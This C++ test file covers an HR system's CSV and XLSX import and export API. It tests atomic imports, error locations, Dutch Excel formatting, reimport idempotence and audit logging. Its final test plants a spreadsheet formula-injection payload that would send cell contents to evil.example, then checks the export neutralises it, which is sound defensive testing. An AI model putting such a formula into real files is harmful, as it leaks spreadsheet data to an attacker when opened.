// CSV import through the API: all or nothing, every error with row and column, Dutch Excel files.
#include "api_harness.hpp"

namespace kwm::testing {
namespace {

class ImportApi : public ApiTest {};
KWM_API_TEST_SUITE(ImportApi);

const std::string kPeopleHeader =
    "personnel_number,name,unit_code,function_code,level,fte,contract,contract_end,hire_date,education_level,"
    "engagement,organisation\n";

TEST_P(ImportApi, OneBadRowImportsNothingAndNamesRowAndColumn) {
  Client hr = logged_in("hr-a");
  const HttpResult result = hr.post("/api/v1/import/people",
                                    kPeopleHeader +
                                        "P100,Fenna de Wit,WT1,CM,casemanager,1,permanent,,2020-01-01,hbo,employee,\n"
                                        "P101,Gijs Mulder,WT1,CM,casemanager,0,permanent,,2020-01-01,hbo,employee,\n",
                                    "text/csv");
  ASSERT_EQ(result.status, 422u) << result.body;
  const auto error = result.json().at("error");
  EXPECT_EQ(error.at("code").as_string(), "import_failed");
  ASSERT_EQ(error.at("errors").as_array().size(), 1u);
  EXPECT_EQ(error.at("errors").at(0).at("row").as_int64(), 3);
  EXPECT_EQ(error.at("errors").at(0).at("column").as_string(), "fte");
  EXPECT_EQ(count("SELECT COUNT(*) FROM people WHERE personnel_number IN ('P100', 'P101')"), 0);
}

TEST_P(ImportApi, SemicolonFileWithBomAndDecimalCommaImports) {
  Client hr = logged_in("hr-a");
  const std::string file =
      "\xEF\xBB\xBF"
      "personnel_number;name;unit_code;function_code;level;fte;contract;contract_end;hire_date;education_level;"
      "engagement;organisation\r\n"
      "P200;Hanna Kuipers;WT2;CM;casemanager;0,8;temporary;31-12-2027;01-02-2025;hbo;employee;\r\n";
  const HttpResult result = hr.post("/api/v1/import/people", file, "text/csv");
  ASSERT_EQ(result.status, 200u) << result.body;
  EXPECT_EQ(result.json().at("imported").as_int64(), 1);
  EXPECT_EQ(count("SELECT fte_milli FROM people WHERE personnel_number = 'P200'"), 800);
}

TEST_P(ImportApi, ReimportingTheSameFileChangesNothing) {
  Client hr = logged_in("hr-a");
  const std::string file = kPeopleHeader + "P300,Ilse Jansen,BO,AM,medewerker,1,permanent,,2019-04-01,mbo,employee,\n";
  ASSERT_EQ(hr.post("/api/v1/import/people", file, "text/csv").status, 200u);
  const std::int64_t audit_after_first = count("SELECT COUNT(*) FROM audit_log");
  ASSERT_EQ(hr.post("/api/v1/import/people", file, "text/csv").status, 200u);
  EXPECT_EQ(count("SELECT COUNT(*) FROM people WHERE personnel_number = 'P300'"), 1);
  // Only the file's own "import" entry is added: no record changed.
  EXPECT_LE(count("SELECT COUNT(*) FROM audit_log") - audit_after_first, 1);
}

TEST_P(ImportApi, UnknownKindIsRefused) {
  Client hr = logged_in("hr-a");
  const HttpResult result = hr.post("/api/v1/import/salaries", "a,b\n1,2\n", "text/csv");
  EXPECT_TRUE(result.status == 404u || result.status == 422u) << result.status;
}

TEST_P(ImportApi, ImportIsAudited) {
  Client hr = logged_in("hr-a");
  ASSERT_EQ(hr.post("/api/v1/import/people",
                    kPeopleHeader + "P400,Joost Smit,BO,AM,medewerker,0.5,permanent,,2021-01-01,mbo,employee,\n",
                    "text/csv")
                .status,
            200u);
  const auto audit = hr.get("/api/v1/audit?page_size=100").json();
  bool found_import = false;
  for (const auto& entry : audit.at("items").as_array()) {
    if (entry.at("action") == "import" && entry.at("username") == "hr-a") found_import = true;
  }
  EXPECT_TRUE(found_import);
  EXPECT_EQ(logged_in("employee-a").get("/api/v1/audit").status, 403u);
}

TEST_P(ImportApi, ExportReturnsTheImportFormat) {
  Client hr = logged_in("hr-a");
  const HttpResult csv = hr.get("/api/v1/export/people?format=csv");
  ASSERT_EQ(csv.status, 200u);
  EXPECT_EQ(csv.body.rfind("personnel_number,name,unit_code", 0), 0u) << csv.body.substr(0, 80);
  EXPECT_NE(csv.body.find("P001"), std::string::npos);
  EXPECT_EQ(csv.body.find("Q001"), std::string::npos);
  const HttpResult xlsx = hr.get("/api/v1/export/units?format=xlsx");
  ASSERT_EQ(xlsx.status, 200u);
  EXPECT_EQ(xlsx.body.substr(0, 2), "PK");  // an XLSX file is a zip archive
}

// A name that a spreadsheet would run as a formula leaves the CSV export as text, and the export imports
// back unchanged.
TEST_P(ImportApi, ExportedCellsNeverRunAsFormulas) {
  Client hr = logged_in("hr-a");
  const std::string name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")";
  boost::json::object unit{{"code", "EVIL"}, {"name", name}, {"kind", "team"}, {"parent_id", unit_id("GM9001", "SD")}};
  ASSERT_EQ(hr.post("/api/v1/units", boost::json::serialize(unit)).status, 201u);
  const HttpResult csv = hr.get("/api/v1/export/units?format=csv");
  ASSERT_EQ(csv.status, 200u);
  EXPECT_EQ(csv.body.find(",=HYPERLINK"), std::string::npos) << csv.body;
  EXPECT_NE(csv.body.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\","), std::string::npos) << csv.body;
  const HttpResult again = hr.post("/api/v1/import/units", csv.body, "text/csv");
  ASSERT_EQ(again.status, 200u) << again.body;
  EXPECT_EQ(again.json().at("unchanged").as_int64(), again.json().at("imported").as_int64()) << again.body;
  EXPECT_EQ(count("SELECT COUNT(*) FROM units WHERE code = 'EVIL' AND name = '" + std::string("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")") + "'"), 1);
}

}  // namespace
}  // namespace kwm::testing
